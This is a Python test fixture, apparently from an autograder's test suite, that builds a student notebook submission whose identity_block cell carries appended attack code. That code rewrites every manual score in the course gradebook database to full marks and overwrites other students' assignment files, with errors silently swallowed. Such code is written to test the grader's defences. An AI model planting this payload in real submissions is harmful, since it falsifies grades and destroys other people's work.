"""identity_block done (the rest as handed out), its cell also trying to give the student 'untouched' full
marks and to spoil others' files."""

SCORE = 3


def build(kit):
    attack = (
        "\n\nimport glob, os, sqlite3\n\n"
        "for _path in [" + repr(str(kit.course / "gradebook.db")) + "]:\n"
        "    try:\n"
        "        _db = sqlite3.connect(_path)\n"
        "        _db.execute('UPDATE grade SET manual_score = 10')\n"
        "        _db.commit()\n"
        "    except Exception:\n"
        "        pass\n"
        "for _path in glob.glob(" + repr(str(kit.course / "*" / "*" / "residual_networks" / "*")) + "):\n"
        "    try:\n"
        "        open(_path, 'w').write('overwritten')\n"
        "    except Exception:\n"
        "        pass\n"
    )
    return kit.stubbed(identity_block=kit.solution("identity_block") + attack)
